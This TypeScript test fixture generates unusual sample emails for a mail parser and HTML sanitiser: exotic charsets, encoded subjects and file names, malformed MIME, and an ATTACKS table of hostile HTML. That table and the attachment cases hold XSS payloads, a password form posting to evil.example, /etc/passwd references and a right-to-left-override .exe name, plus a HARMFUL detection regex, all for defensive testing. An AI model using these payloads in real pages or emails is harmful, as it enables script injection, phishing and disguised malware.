import {
  base64,
  type Correspondence,
  message,
  part,
  parts,
  type SampleEmail,
  sha256,
  textPart,
} from './sample-email.fixture.ts';

const encode = (text: string, bytes: readonly number[]) => [text, Buffer.from(bytes)] as const;
/** Texts as bytes of encodings; what `Buffer` cannot encode is written as bytes. */
const CHARSETS: Readonly<Record<string, readonly [text: string, bytes: Buffer]>> = {
  'utf-8': ['Zoë – ok', Buffer.from('Zoë – ok')],
  'iso-8859-1': encode('Zoë “ok” €', [0x5a, 0x6f, 0xeb, 0x20, 0x93, 0x6f, 0x6b, 0x94, 0x20, 0x80]),
  'us-ascii': ['Zoë – ok', Buffer.from('Zoë – ok')],
  'windows-1250': encode('Łukasz', [0xa3, 0x75, 0x6b, 0x61, 0x73, 0x7a]),
  'koi8-r': encode('Ольга', [0xef, 0xcc, 0xd8, 0xc7, 0xc1]),
  gb2312: encode('镕好', [0xe9, 0x46, 0xba, 0xc3]),
  'iso-2022-jp': encode('日本', [0x1b, 0x24, 0x42, 0x46, 0x7c, 0x4b, 0x5c, 0x1b, 0x28, 0x42]),
  shift_jis: encode('日本', [0x93, 0xfa, 0x96, 0x7b]),
  'euc-kr': encode('한국', [0xc7, 0xd1, 0xb1, 0xb9]),
  'ks_c_5601-1987': encode('한국', [0xc7, 0xd1, 0xb1, 0xb9]),
  big5: encode('中文', [0xa4, 0xa4, 0xa4, 0xe5]),
  'utf-16le': ['Zoë ok', Buffer.from('Zoë ok', 'utf16le')],
  'utf-16': ['Zoë ok', Buffer.from('\ufeffZoë ok', 'utf16le')],
  'utf-7': ['Zoë <b>', Buffer.from('Zo+AOs- +ADw-b+AD4-')],
  cp1252: encode('Zoë', [0x5a, 0x6f, 0xeb]),
  'x-unknown-charset': ['Zoë – ok', Buffer.from('Zoë – ok')],
};

function charsets(mail: Correspondence): SampleEmail[] {
  const declared = Object.entries(CHARSETS).map(([charset, [text, bytes]]) => ({
    name: `charset ${charset}`,
    raw: message(
      mail,
      { 'Content-Type': `text/plain; charset=${charset}`, 'Content-Transfer-Encoding': 'base64' },
      base64(bytes),
    ),
    expected: { text: new RegExp(`^${text}$`), kind: null },
  }));
  const russian = Buffer.from([
    0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2, 0x2c, 0x20, 0xea, 0xe0, 0xea, 0x20, 0xe4, 0xe5, 0xeb, 0xe0, 0x3f,
  ]);
  const meta = Buffer.concat([
    Buffer.from('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1251"></head><body>'),
    russian,
    Buffer.from('</body></html>'),
  ]);
  const raw = (subject: Buffer) => {
    const [before = '', after = ''] = message(mail, { Subject: 'HERE' }, 'text').toString().split('HERE');
    return Buffer.concat([Buffer.from(before), subject, Buffer.from(after)]);
  };
  return [
    ...declared,
    {
      name: 'charset in no header, UTF-8',
      raw: message(mail, {}, Buffer.from('Zoë – ok')),
      expected: { text: /^Zoë – ok$/, kind: null },
    },
    {
      name: 'charset in no header, Windows-1251',
      raw: message(mail, {}, russian),
      expected: { text: /^Привет, как дела\?$/, kind: null },
    },
    {
      name: 'charset in no header, ISO-2022-JP',
      raw: message(mail, {}, CHARSETS['iso-2022-jp']![1]),
      expected: { text: /^日本$/, kind: null },
    },
    {
      name: 'charset of HTML in its meta element only',
      raw: message(mail, { 'Content-Type': 'text/html' }, meta),
      expected: { text: /^Привет, как дела\?$/, kind: null },
    },
    {
      name: 'a subject in raw UTF-8',
      raw: raw(Buffer.from('Zoë – ok')),
      expected: { subject: 'Zoë – ok', kind: null },
    },
    {
      name: 'a subject in raw Latin-1',
      raw: raw(Buffer.from('Zoë', 'latin1')),
      expected: { subject: 'Zoë', kind: null },
    },
    {
      name: 'a subject in words that are split inside a character',
      raw: raw(Buffer.from('=?utf-8?Q?Zo=C3?=\r\n =?utf-8?Q?=AB_ok?=')),
      expected: { subject: 'Zoë ok', kind: null },
    },
    {
      name: 'a subject in words of two encodings',
      raw: raw(Buffer.from('=?utf-8?B?Wm8=?= =?iso-8859-1?Q?=EB?= ok =?x-bad?Q?x?=')),
      expected: { subject: 'Zoë ok x', kind: null },
    },
    {
      name: 'a flowed text',
      raw: message(mail, { 'Content-Type': 'text/plain; format=flowed; delsp=yes' }, 'one \r\ntwo\r\nthree'),
      expected: { text: /^onetwo\nthree$/, kind: null },
    },
  ];
}

const FILE = Buffer.from([0x25, 0x50, 0x44, 0x46, 0x0d, 0x0a, 0xff, 0x0d, 0x00, 0x0a]);
const TEXT_FILE = Buffer.from('a\r\nb\nc\xe9', 'latin1');

function files(mail: Correspondence): SampleEmail[] {
  const withFile = (name: string, header: string, fileName: string, bytes = FILE): SampleEmail => ({
    name: `a file: ${name}`,
    raw: message(
      mail,
      { 'Content-Type': 'multipart/mixed; boundary="b b"' },
      parts('b b', textPart('see file'), part(`${header}\r\nContent-Transfer-Encoding: base64`, base64(bytes))),
    ),
    expected: { text: /^see file$/, kind: null, files: [sha256(bytes)], fileNames: [fileName] },
  });
  const pdf = 'Content-Type: application/pdf';
  return [
    withFile('plain', `${pdf}; name="cv.pdf"\r\nContent-Disposition: attachment; filename="cv.pdf"`, 'cv.pdf'),
    withFile('in RFC 2231', `${pdf}\r\nContent-Disposition: attachment; filename*=utf-8''Zo%C3%AB.pdf`, 'Zoë.pdf'),
    withFile(
      'in pieces of RFC 2231',
      `${pdf}\r\nContent-Disposition: attachment;\r\n filename*0*=utf-8''Zo%C3;\r\n filename*1*=%AB%20cv;\r\n filename*2=".pdf"`,
      'Zoë cv.pdf',
    ),
    withFile(
      'in encoded words',
      `${pdf}\r\nContent-Disposition: attachment; filename="=?utf-8?Q?Zo=C3=AB.pdf?="`,
      'Zoë.pdf',
    ),
    withFile(
      'in an encoded disposition',
      `${pdf}; name=cv.pdf\r\nContent-Disposition: =?utf-8?Q?attachment?=; filename=cv.pdf`,
      'cv.pdf',
    ),
    withFile('without a type', 'Content-Type: ; name=cv.pdf', 'cv.pdf'),
    withFile('without a name', `${pdf}\r\nContent-Disposition: attachment`, 'file.pdf'),
    withFile(
      'with a path as its name',
      `${pdf}\r\nContent-Disposition: attachment; filename="..\\\\..\\\\etc/cv.pdf"`,
      'cv.pdf',
    ),
    withFile(
      'whose name turns its direction',
      `${pdf}\r\nContent-Disposition: attachment; filename*=utf-8''cv%E2%80%AEfdp.exe`,
      'cvfdp.exe',
    ),
    withFile(
      'a text keeps its bytes',
      'Content-Type: text/plain; charset=utf-8; name=a.txt\r\nContent-Disposition: attachment; filename=a.txt',
      'a.txt',
      TEXT_FILE,
    ),
    {
      name: 'a file that is the email',
      raw: message(
        mail,
        { 'Content-Type': 'application/pdf; name=cv.pdf', 'Content-Transfer-Encoding': 'base64' },
        base64(FILE),
      ),
      expected: { text: /^$/, kind: null, files: [sha256(FILE)], fileNames: ['cv.pdf'] },
    },
    {
      name: 'pictures between two texts, as Apple Mail sends them',
      raw: message(
        mail,
        { 'Content-Type': 'multipart/mixed; boundary=b' },
        parts(
          'b',
          textPart('one'),
          part(
            'Content-Type: image/png\r\nContent-ID: <p@x>\r\nContent-Disposition: inline; filename=p.png\r\nContent-Transfer-Encoding: base64',
            base64(FILE),
          ),
          textPart('two'),
        ),
      ),
      expected: { text: /^one\n\ntwo$/, kind: null, files: [sha256(FILE)] },
    },
  ];
}

function broken(mail: Correspondence): SampleEmail[] {
  const mixed = { 'Content-Type': 'multipart/mixed; boundary=b' };
  const sample = (name: string, raw: Buffer, text: RegExp): SampleEmail => ({
    name: `broken: ${name}`,
    raw,
    expected: { text, kind: null },
  });
  const normal = message(mail, {}, 'text\r\n').toString();
  return [
    sample('the last boundary is missing', message(mail, mixed, `--b\r\n${textPart('text')}`), /^text$/),
    sample('no boundary at all', message(mail, { 'Content-Type': 'multipart/mixed' }, 'text'), /^(?:text)?$/),
    sample('a boundary that does not occur', message(mail, mixed, 'text'), /^$/),
    sample('line feeds only', Buffer.from(normal.replaceAll('\r\n', '\n')), /^text$/),
    sample('carriage returns only', Buffer.from(normal.replaceAll('\r\n', '\r')), /^text$/),
    sample('empty lines before the header', Buffer.from(`\r\n\r\n${normal}`), /^text$/),
    sample(
      'a line of a mailbox file before the header',
      Buffer.from(`From zoe@candidate.example Tue Nov  3 10:00:00 2026\r\n${normal}`),
      /^text$/,
    ),
    sample('a line that is no header', Buffer.from(normal.replace('Subject:', 'what is this\r\nSubject:')), /^text$/),
    sample('no text', message(mail, {}, ''), /^$/),
    sample('characters that cannot be stored', message(mail, {}, 'te\0x\u0008t'), /^text$/),
    sample(
      'damaged quoted-printable',
      message(mail, { 'Content-Transfer-Encoding': 'quoted-printable' }, 'te=78t=ZZ =\r\nmore='),
      /^text=ZZ more$/,
    ),
    sample(
      'Base64 with padding in it',
      message(mail, { 'Content-Transfer-Encoding': 'base64' }, 'dGU=\r\neHQ=\r\n!'),
      /^text$/,
    ),
    sample('an unknown transfer encoding', message(mail, { 'Content-Transfer-Encoding': 'x-none' }, 'text'), /^text$/),
    sample(
      'an inner boundary that is never closed',
      message(
        mail,
        mixed,
        `--b\r\nContent-Type: multipart/alternative; boundary=i\r\n\r\n--i\r\n${textPart('text')}\r\n--b\r\n${textPart('more')}\r\n--b--`,
      ),
      /^text\n\nmore$/,
    ),
  ];
}

const ATTACKS: Readonly<Record<string, string>> = {
  base: '<base href="https://evil.example/">',
  form: '<form action="https://evil.example"><input name=password><button>x</button></form>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'fixed position': '<div style="position:fixed;top:0;left:0;z-index:9;width:100%;height:100%">x</div>',
  import: '<style>@import url(https://evil.example/x.css);</style>',
  'url in a style':
    '<p style="background:url(https://evil.example/x.png);background-image:u\\72l(https://evil.example)">x</p>',
  svg: '<svg onload="alert(1)"><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
  mathml: '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  'a script': '<script>alert(1)</script><img src=x onerror="alert(1)">',
  'a script in an address':
    '<a href="java&#10;script:alert(1)">x</a><a href=" javascript:alert(1)">y</a><a href="data:text/html,x">z</a>',
  srcset: '<img srcset="javascript:alert(1) 1x" src="file:///etc/passwd"><source srcset="https://evil.example/x">',
  'cid to a file': '<img src="cid:../../etc/passwd onerror=alert(1)"><object data="cid:x"></object>',
  frames:
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><embed src=x><video poster="https://evil.example/x"></video>',
  'a background':
    '<table background="https://evil.example/x"><tr><td>x</td></tr></table><link rel=stylesheet href="https://evil.example/x">',
  'negative margins': '<div style="margin-top:-2000px;margin:0 0 0 -99px">x</div>',
  'marked as removed by us': '<img data-remote-src="javascript:alert(1)" src="https:evil.example">',
};
const HARMFUL =
  /<(?!\/?(?:p|div|a|img|table|tbody|tr|td|b)\b)|\s(?:on\w+|srcset|background|action|srcdoc|poster|class|id)=|\ssrc="(?!cid:)|javascript:|data:|position|url\(|:\s*-|import/i;

function attacks(mail: Correspondence): SampleEmail[] {
  const pages = Object.entries(ATTACKS).map(([name, html]) => ({
    name: `attack: ${name}`,
    raw: message(mail, { 'Content-Type': 'text/html; charset=utf-8' }, `<p>before</p>${html}<p>after</p>`),
    expected: {
      kind: null,
      text: /^before\n[\s\S]*after$/,
      inHtml: /^<p>before<\/p>[\s\S]*<p>after<\/p>$/,
      notInHtml: HARMFUL,
    },
  }));
  const remote =
    '<img src="https://track.example/a.png?x=1&amp;y=2" width="1"><img src="cid:logo@x"><a href="https://a.example/" onclick="x()">link</a>';
  return [
    ...pages,
    {
      name: 'pictures from elsewhere are kept as an address only',
      raw: message(mail, { 'Content-Type': 'text/html' }, remote),
      expected: {
        kind: null,
        notInHtml: HARMFUL,
        inHtml:
          /^<img width="1" data-remote-src="https:\/\/track\.example\/a\.png\?x=1&amp;y=2" \/><img src="cid:logo@x" \/><a href="https:\/\/a\.example\/"/,
      },
    },
    {
      name: 'hidden text is not part of the text',
      raw: message(
        mail,
        { 'Content-Type': 'text/html' },
        '<div style="display:none">hidden</div><p>shown</p><p hidden>hidden</p>',
      ),
      expected: { kind: null, text: /^shown$/ },
    },
  ];
}

export function unusualEmails(mail: Correspondence): SampleEmail[] {
  return [...charsets(mail), ...files(mail), ...broken(mail), ...attacks(mail)];
}
